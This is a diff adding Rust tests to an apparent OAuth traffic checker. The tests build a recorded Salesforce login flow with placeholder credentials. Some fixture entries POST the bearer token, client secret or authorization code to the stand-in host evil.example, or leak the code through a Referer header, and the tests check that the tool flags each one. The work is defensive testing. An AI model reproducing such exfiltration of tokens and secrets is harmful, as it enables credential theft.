@@ -253,9 +253,92 @@ fn a_suite_that_only_listens_judges_traffic_from_elsewhere() {
     std::fs::write(&path, LISTENS.replace("count: 1 }", "count: 2 }")).unwrap();
     let (exit, out, _) = grantcheck(&["judge", &record, "--suite", &path]);
     assert!(exit == 0 && out.contains("1 pass"), "{out}");
+    // Where nobody asked anything, there is nothing to say.
+    let empty = folder.path("empty.json");
+    let mut recorded: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(&record).unwrap()).unwrap();
+    recorded["exchanges"] = serde_json::json!([]);
+    std::fs::write(&empty, recorded.to_string()).unwrap();
+    let (exit, _, told) = grantcheck(&["judge", &empty, "--suite", &path]);
+    assert!(exit == 2 && told.contains("there is no traffic in the recording"), "{told}");
     // A suite that plays somebody says nothing of what was recorded.
     let (exit, _, told) = grantcheck(&["judge", &record, "--suite", &played]);
     assert!(exit == 2 && told.contains("no scenario of these suites only listens"), "{told}");
+}
+
+/// Traffic of a client that logs in and calls as it should, and what else it does.
+fn traffic(folder: &Folder, more: &[serde_json::Value]) -> String {
+    let (org, client) = ("https://acme.my.salesforce.com", "http://localhost:1717/cb");
+    let (code, state) = ("aPrxCode.0123456789abcdef", "abcdefghijklmnopqrstuv1234");
+    let entry = |method: &str,
+                 url: String,
+                 form: &str,
+                 headers: serde_json::Value,
+                 status: u16,
+                 body: String| {
+        serde_json::json!({
+            "startedDateTime": "2026-01-01T00:00:00Z", "time": 1,
+            "request": {"method": method, "url": url, "headers": headers,
+                "postData": {"mimeType": "application/x-www-form-urlencoded", "text": form}},
+            "response": {"status": status, "headers": [{"name": "content-type", "value": "application/json"}],
+                "content": {"size": body.len(), "text": body}},
+        })
+    };
+    let none = serde_json::json!([{"name": "user-agent", "value": "app/1.0"}]);
+    let bearer = serde_json::json!([{"name": "Authorization", "value": "Bearer 00Dxx!AccessTokenOfThis01"}]);
+    let asked = format!(
+        "{org}/services/oauth2/authorize?response_type=code&client_id=3MVG9.app&redirect_uri=http%3A%2F%2Flocalhost%3A1717%2Fcb\
+         &state={state}&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256"
+    );
+    let form = format!(
+        "grant_type=authorization_code&code={code}&client_id=3MVG9.app&client_secret=s3cr3t-of-the-app-01\
+         &redirect_uri=http%3A%2F%2Flocalhost%3A1717%2Fcb&code_verifier=dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"
+    );
+    let granted = serde_json::json!({"access_token": "00Dxx!AccessTokenOfThis01", "token_type": "Bearer",
+        "instance_url": org, "id": format!("{org}/id/00D/005"), "issued_at": "1767225603000", "signature": "x"});
+    let mut entries = vec![
+        entry("GET", asked, "", none.clone(), 302, String::new()),
+        entry("GET", format!("{client}?code={code}&state={state}"), "", none.clone(), 200, "ok".into()),
+        entry("POST", format!("{org}/services/oauth2/token"), &form, none, 200, granted.to_string()),
+        entry("GET", format!("{org}/services/data/v62.0/limits"), "", bearer, 200, "{}".into()),
+    ];
+    entries.extend(more.iter().cloned());
+    let path = folder.path("traffic.har");
+    let file = serde_json::json!({"log": {"version": "1.2", "entries": entries}});
+    std::fs::write(&path, file.to_string()).unwrap();
+    path
+}
+
+#[test]
+fn traffic_of_a_right_client_passes_without_a_target_and_what_it_tells_others_does_not() {
+    let folder = Folder::new("traffic");
+    let right = traffic(&folder, &[]);
+    for target in [&[][..], &["--target", "https://acme.my.salesforce.com"]] {
+        let (exit, out, err) = grantcheck(&[&["judge", &right], target].concat());
+        assert_eq!(exit, 0, "{out}{err}");
+    }
+    let evil = |header: (&str, &str), form: &str| {
+        serde_json::json!({
+            "startedDateTime": "2026-01-01T00:00:02Z", "time": 1,
+            "request": {"method": "POST", "url": "https://evil.example/x", "headers": [{"name": header.0, "value": header.1}],
+                "postData": {"mimeType": "application/x-www-form-urlencoded", "text": form}},
+            "response": {"status": 200},
+        })
+    };
+    let referer = "http://localhost:1717/cb?code=aPrxCode.0123456789abcdef";
+    for (more, check) in [
+        (
+            evil(("Authorization", "Bearer 00Dxx!AccessTokenOfThis01"), ""),
+            "calling/token-goes-to-its-own-hosts",
+        ),
+        (evil(("x", "y"), "s=s3cr3t-of-the-app-01"), "authenticating/secret-stays-at-its-endpoints"),
+        (evil(("x", "y"), "c=aPrxCode.0123456789abcdef"), "calling/token-goes-to-its-own-hosts"),
+        (evil(("Referer", referer), ""), "secrets/referer-holds-none"),
+    ] {
+        let (exit, out, _) = grantcheck(&["judge", &traffic(&folder, &[more])]);
+        assert!(exit == 1 && out.contains(check), "{check}: {out}");
+        assert!(!out.contains("s3cr3t-of") && !out.contains("AccessTokenOfThis"), "{out}");
+    }
 }
 
 const WAIVED: &str = "suite: waived
